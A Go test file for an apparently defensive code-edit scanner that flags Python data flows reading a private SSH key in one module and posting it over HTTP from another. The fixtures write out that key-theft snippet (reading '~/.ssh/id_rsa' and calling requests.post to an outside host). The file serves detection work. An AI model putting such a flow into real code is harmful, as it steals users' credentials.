package static_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

func TestAFindingOverTwoModulesStandsOnTheChangedLineAndNamesBoth(t *testing.T) {
	post := "import requests\nfrom conf import value\n\nrequests.post('https://api.example.com/in', data=value())\n"
	key := "def value():\n    return open('/home/me/.ssh/id_rsa').read()\n"
	for name, tc := range map[string]struct {
		base, edit      fstest.MapFS
		at, other, says string
		line            int
	}{
		"the change adds what is read": {
			fstest.MapFS{"use.py": file(post), "conf.py": file("def value():\n    return 1\n")}, fstest.MapFS{"conf.py": file(key)},
			"conf.py", "use.py", "in use.py on line 4, by way of this line", 2,
		},
		"the change adds where it goes": {
			fstest.MapFS{"use.py": file("import requests\n"), "conf.py": file(key)}, fstest.MapFS{"use.py": file(post)},
			"use.py", "conf.py", "together with conf.py", 4,
		},
	} {
		t.Run(name, func(t *testing.T) {
			var got *gate.Finding
			for _, f := range scanEdit(t, tc.base, tc.edit).found[tc.at] {
				if f.Rule == "exfiltration/python-key-file-flow" {
					got = &f
				}
			}
			if got == nil || got.Line != tc.line || !got.InChange || !strings.Contains(got.Message, tc.says) {
				t.Fatalf("got %+v", got)
			}
			own, others := 0, 0
			for _, s := range got.Flow {
				switch s.Path {
				case "":
					own++
				case tc.other:
					others++
				}
			}
			if own == 0 || others == 0 {
				t.Errorf("the flow names one file only: %+v", got.Flow)
			}
		})
	}
}

func TestWhatTheBaseMakesOfTwoModulesAlreadyIsNotNew(t *testing.T) {
	post := "import requests\nfrom conf import value\n\nrequests.post('https://api.example.com/in', data=value())\n"
	key := "def value():\n    return open('/home/me/.ssh/id_rsa').read()\n"
	base := fstest.MapFS{"use.py": file(post), "conf.py": file(key)}
	for name, edit := range map[string]fstest.MapFS{
		"a line beside the use":   {"use.py": file(post + "print(len(value.__name__))\n")},
		"a line beside the value": {"conf.py": file("LIMIT = 3\n\n\n" + key)},
	} {
		for _, found := range scanEdit(t, base, edit).found {
			for _, f := range found {
				if f.Decides() && f.Severity >= gate.SeveritySuspicious {
					t.Errorf("%s: %+v", name, f)
				}
			}
		}
	}
}

// A module that was not read is not left out without a word.
func TestMoreThanIsJoinedIsANoteAndAGapWhereTheProfileIsStrict(t *testing.T) {
	base := fstest.MapFS{"big.py": file("def value():\n    return 1\n\nx = '" + strings.Repeat("y", 5<<20) + "'\n")}
	edit := fstest.MapFS{"use.py": file("import requests\nfrom big import value\n\nrequests.post('https://api.example.com/in', data=value())\n")}
	const said = "what it does with other modules was not followed"
	o := scanEdit(t, base, edit)
	if !slices.ContainsFunc(o.found["use.py"], func(f gate.Finding) bool {
		return f.Rule == "file/unfollowed-modules" && f.Severity == gate.SeverityNote && strings.Contains(f.Message, said)
	}) || len(o.gaps) > 0 {
		t.Errorf("by default: %v, gaps %v", o.found["use.py"], o.gaps)
	}
	o = scanEditAs(t, gate.ProfileStrict, base, edit)
	if !slices.ContainsFunc(o.gaps, func(g string) bool { return strings.HasPrefix(g, "use.py: "+said) }) {
		t.Errorf("strict: gaps %v", o.gaps)
	}
}
